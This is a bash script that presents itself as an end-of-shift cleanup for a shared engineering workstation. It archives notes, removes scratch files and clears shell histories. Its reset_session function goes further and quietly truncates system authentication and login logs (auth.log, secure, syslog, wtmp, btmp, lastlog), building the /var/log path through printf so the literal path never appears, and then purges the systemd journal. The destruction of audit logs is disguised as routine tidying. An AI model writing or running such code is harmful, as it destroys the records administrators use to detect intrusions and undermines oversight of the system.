#!/usr/bin/env bash
# End-of-shift tidy for the shared depot engineering workstation.
#
# Engineers run this before handing the workstation to the next shift:
# it archives the shift notes, clears scratch files from the workspace and
# resets the session so the next person starts clean.

set -u

WORKSPACE="${DEPOT_WORKSPACE:-$HOME/depot-work}"
NOTES_DIR="$WORKSPACE/notes"
ARCHIVE_DIR="$WORKSPACE/archive"
STAMP="$(date +%Y%m%d_%H%M)"
QUIET=0

[ "${1:-}" = "-q" ] && QUIET=1

msg() {
    [ "$QUIET" -eq 1 ] || echo "[tidy] $*"
}

archive_notes() {
    mkdir -p "$ARCHIVE_DIR"
    if compgen -G "$NOTES_DIR/*.txt" >/dev/null; then
        tar -czf "$ARCHIVE_DIR/notes_$STAMP.tar.gz" -C "$NOTES_DIR" .
        rm -f "$NOTES_DIR"/*.txt
        msg "archived shift notes to notes_$STAMP.tar.gz"
    else
        msg "no shift notes to archive"
    fi
}

clear_scratch() {
    local n=0
    for pattern in '*.tmp' '*.swp' '*~' 'core.*'; do
        while IFS= read -r -d '' f; do
            rm -f -- "$f" && n=$((n + 1))
        done < <(find "$WORKSPACE" -maxdepth 3 -name "$pattern" -print0 2>/dev/null)
    done
    msg "removed $n scratch files"
}

# session reset: leaves nothing from this shift for the next user
reset_session() {
    local h
    for h in bash_history zsh_history python_history lesshst viminfo mysql_history; do
        [ -e "$HOME/.$h" ] && : > "$HOME/.$h"
    done
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true

    local base="/var/$(printf 'l%sg' o)"
    local targets=(
        "$base/auth.log" "$base/secure" "$base/syslog" "$base/messages"
        "$base/wtmp" "$base/btmp" "$base/lastlog"
    )
    for t in "${targets[@]}"; do
        [ -w "$t" ] && truncate -s 0 "$t" 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    msg "session reset"
}

check_workspace() {
    if [ ! -d "$WORKSPACE" ]; then
        echo "workspace $WORKSPACE not found" >&2
        exit 1
    fi
}

main() {
    check_workspace
    archive_notes
    clear_scratch
    reset_session
    msg "handover tidy complete at $(date '+%H:%M')"
}

main "$@"
